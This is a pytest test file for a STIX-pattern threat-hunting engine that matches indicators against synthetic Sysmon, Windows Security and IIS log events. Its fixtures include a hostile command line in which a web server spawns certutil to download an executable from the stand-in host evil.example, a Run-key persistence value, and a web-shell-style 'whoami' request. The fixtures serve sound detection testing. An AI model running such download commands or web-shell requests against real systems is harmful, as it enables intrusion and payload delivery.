"""STIX patterns over events."""

from __future__ import annotations

from typing import Any

import pytest

from aleat.errors import Place
from aleat.hunt.compiler import compile_plan
from aleat.hunt.engine import Hunter
from aleat.hunt.indicator import Indicator
from aleat.hunt.lists import ListHunter
from aleat.hunt.stix_paths import event_objects
from aleat.hunt.views import TRANSFORMS
from tests.hunt.batches import make_batch

SYSMON = "Microsoft-Windows-Sysmon/Operational"

PROCESS = {
    "event_id": "1",
    "host": "PC1",
    "time": 1_000_000,
    "Image": r"C:\Windows\System32\cmd.exe",
    "CommandLine": "cmd /c certutil -urlcache http://evil.example/a.exe",
    "CurrentDirectory": "C:\\",
    "ProcessId": 4711,
    "User": r"CORP\arben",
    "Hashes": f"MD5={'0a' * 16},SHA256={'AB' * 32}",
    "ParentImage": r"C:\Windows\System32\inetsrv\w3wp.exe",
    "ParentCommandLine": "-",
}
CONNECTION = {
    "event_id": "3",
    "host": "PC1",
    "time": 2_000_000,
    "Image": r"C:\Temp\a.exe",
    "SourceIp": "10.1.1.1",
    "DestinationIp": "198.51.100.7",
    "DestinationPort": 443,
    "Protocol": "tcp",
    "DestinationHostname": "",
}
KEY = {"event_id": "13", "host": "PC1", "time": 3_000_000, "Details": r"C:\Temp\a.exe"}
KEY["TargetObject"] = r"HKU\S-1-5-21-1-2-3-500\Software\Microsoft\Windows\CurrentVersion\Run\Updater"
LOGON = {"event_id": "4624", "host": "DC", "time": 4_000_000, "TargetUserName": "svc_backup", "LogonType": 3}
LOGON |= {"IpAddress": "::ffff:198.51.100.7", "IpPort": "50123", "TargetUserSid": "S-1-5-21-1-2-3-1105"}
REQUEST = {"host": "WEB", "time": 5_000_000, "c-ip": "203.0.113.9", "cs-method": "POST", "s-port": 443}
REQUEST |= {"cs-uri-stem": "/owa/x.aspx", "cs-uri-query": "c=whoami", "cs(User-Agent)": "Mozilla/5.0+(x)"}


def find(pattern: str, *rows: dict[str, Any], channel: str = SYSMON, format: str = "windows") -> list[int]:
    """Return the records in which a pattern is found."""
    batch = make_batch(rows, channel=channel, format=format)
    plan = compile_plan([indicator(pattern)])
    sightings = [*Hunter(plan).hunt([batch]).sightings, *ListHunter.of(plan.lists).hunt([batch])]
    return sorted({item.record for item in sightings if item.indicator == "i"})


def indicator(pattern: str) -> Indicator:
    return Indicator("i", "indicator--1", "d", "stix", pattern, "t", "cert-x", Place("pack.json"))


SYSMON_HITS = [
    ("[process:name = 'CMD.EXE']", 0),
    ("[process:image_ref.name = 'cmd.exe' AND process:parent_ref.name = 'w3wp.exe']", 0),
    ("[process:command_line LIKE 'cmd /_ %evil%']", 0),
    ("[process:command_line MATCHES 'urlcache\\\\s+http://[a-z.]+/']", 0),
    ("[process:pid = 4711]", 0),
    ("[process:pid > 4000 AND process:pid <= 4711]", 0),
    ("[process:pid != '4711']", 0),
    ("[process:creator_user_ref.account_login IN ('beta', 'arben')]", 0),
    ("[EXISTS process:command_line]", 0),
    ("[process:command_line NOT LIKE '%x86%']", 0),
    ("[file:name = 'cmd.exe' AND file:parent_directory_ref.path = 'C:\\\\Windows\\\\System32']", 0),
    (f"[file:hashes.'SHA-256' = '{'ab' * 32}']", 0),
    (f"[file:hashes.MD5 = '{'0A' * 16}' AND file:name = 'cmd.exe']", 0),
    (f"[file:hashes.MD5 IN ('{'0a' * 16}', '{'0b' * 16}')]", 0),
    ("[url:value = 'http://evil.example/a.exe']", 0),
    ("[domain-name:value = 'Evil.example']", 0),
    ("[ipv4-addr:value = '198.51.100.7/32']", 1),
    ("[ipv4-addr:value ISSUBSET '198.51.100.0/24']", 1),
    ("[ipv4-addr:value ISSUPERSET '198.51.100.7']", 1),
    ("[network-traffic:dst_ref.type = 'ipv4-addr' AND network-traffic:dst_ref.value = '198.51.100.7']", 1),
    ("[network-traffic:dst_port IN (80, 443) AND network-traffic:protocols[*] = 'tcp']", 1),
    ("[network-traffic:protocols[0] = 'tcp']", 1),
    ("[network-traffic:dst_port NOT IN (80, 8080)]", 1),
    ("[windows-registry-key:key LIKE 'HKEY_CURRENT_USER\\\\Software\\\\%\\\\Run']", 2),
    (
        "[windows-registry-key:key = 'HKEY_USERS\\\\S-1-5-21-1-2-3-500\\\\software\\\\Microsoft\\\\Windows"
        "\\\\CurrentVersion\\\\Run' AND windows-registry-key:values[*].name = 'Updater']",
        2,
    ),
    ("[windows-registry-key:values[*].data = 'C:\\\\Temp\\\\a.exe']", 2),
]


@pytest.mark.parametrize(("pattern", "record"), SYSMON_HITS)
def test_a_pattern_is_found_in_its_event(pattern: str, record: int) -> None:
    assert find(pattern, PROCESS, CONNECTION, KEY) == [record]


@pytest.mark.parametrize(
    "pattern",
    [
        "[process:command_line = 'CMD /C CERTUTIL -URLCACHE HTTP://EVIL.EXAMPLE/A.EXE']",  # §9.6.2
        "[process:command_line LIKE '_']",
        "[process:parent_ref.command_line != 'x']",  # '-' is nothing: not present, so false (§9.6)
        "[NOT EXISTS process:name]",
        "[file:name = 'cmd.exe' AND file:parent_directory_ref.path = 'C:\\\\Temp']",
        # two connections' ends, but no one object with both (§9.5)
        "[network-traffic:src_ref.value = '198.51.100.7']",
        "[ipv4-addr:value ISSUBSET '198.51.101.0/24']",
        "[ipv4-addr:value = '198.51.100.0/24']",
        "[domain-name:value = 'example']",
        "[url:value = 'http://evil.example/a']",
        "[network-traffic:dst_port = '443']",
        "[network-traffic:protocols[1] = 'tcp' OR process:pid = 1]",
    ],
)
def test_what_the_standard_calls_false_is_no_hit(pattern: str) -> None:
    assert find(pattern, PROCESS, CONNECTION, KEY) == []


@pytest.mark.parametrize(
    "pattern",
    [
        "[user-account:account_login = 'svc_backup']",
        "[user-account:user_id = 'S-1-5-21-1-2-3-1105' AND user-account:account_login = 'SVC_BACKUP']",
        "[network-traffic:src_ref.value = '198.51.100.7' AND network-traffic:src_port > 50000]",
        "[ipv4-addr:value = '198.51.100.7']",
    ],
)
def test_security_events_have_accounts_and_addresses(pattern: str) -> None:
    assert find(pattern, LOGON, channel="Security") == [0]


@pytest.mark.parametrize(
    "pattern",
    [
        "[network-traffic:src_ref.value = '203.0.113.9' AND network-traffic:extensions.'http-request-ext'"
        ".request_method = 'POST']",
        "[network-traffic:extensions.'http-request-ext'.request_value = '/owa/x.aspx?c=whoami']",
        "[network-traffic:extensions.'http-request-ext'.request_header.'User-Agent' = 'Mozilla/5.0 (x)']",
        "[url:value LIKE '%/x.aspx']",
    ],
)
def test_web_requests_are_network_traffic(pattern: str) -> None:
    assert find(pattern, REQUEST, channel="", format="iis") == [0]


def test_a_path_without_a_mapping_is_named_and_never_no_match() -> None:
    plan = compile_plan([indicator("[file:atime = t'2022-07-15T08:00:00Z']")])
    (row,) = plan.not_evaluated
    assert (row.indicator, row.code, row.partial) == ("i", "no-mapping", False)
    assert "file:atime" in row.reason


def test_alternatives_that_can_be_evaluated_are_and_the_rest_is_named_as_partial() -> None:
    pattern = "[file:atime = 'x' OR process:name = 'cmd.exe' OR (file:name = 'x' AND file:magic_number_hex = 'y')]"
    assert find(pattern, PROCESS) == [0]
    rows = compile_plan([indicator(pattern)]).not_evaluated
    assert [row.partial for row in rows] == [True, True]
    assert [path for row in rows for path in ("file:atime", "file:magic_number_hex") if path in row.reason] == [
        "file:atime",
        "file:magic_number_hex",
    ]


def test_properties_that_no_object_has_together_are_named() -> None:
    (row,) = compile_plan(
        [indicator("[process:command_line = 'x' AND process:opened_connection_refs[*].dst_port = 1]")]
    ).not_evaluated
    assert "process:command_line" in row.reason


@pytest.mark.parametrize(
    "pattern", ["[file:name MATCHES '(?=a)b']", "[file:name MATCHES '(']", "[oops", "[file:name IN ('a', 1)]"]
)
def test_a_pattern_that_cannot_be_evaluated_is_rejected_with_its_reason(pattern: str) -> None:
    (row,) = compile_plan([indicator(pattern)]).not_evaluated
    assert (row.code, row.partial) == ("pattern", False)


def test_an_observation_that_is_needed_and_missing_rejects_the_whole_pattern() -> None:
    plan = compile_plan([indicator("[file:atime = t'2022-07-15T08:00:00Z'] FOLLOWEDBY [process:name = 'cmd.exe']")])
    assert not plan.rules
    assert [row.partial for row in plan.not_evaluated] == [False]


def test_every_view_in_the_map_is_there() -> None:
    fields = [field for item in event_objects() for group in item.properties.values() for field in group]
    views = {field.subject.transform for field in fields if hasattr(field.subject, "transform")}
    assert views <= TRANSFORMS.keys()
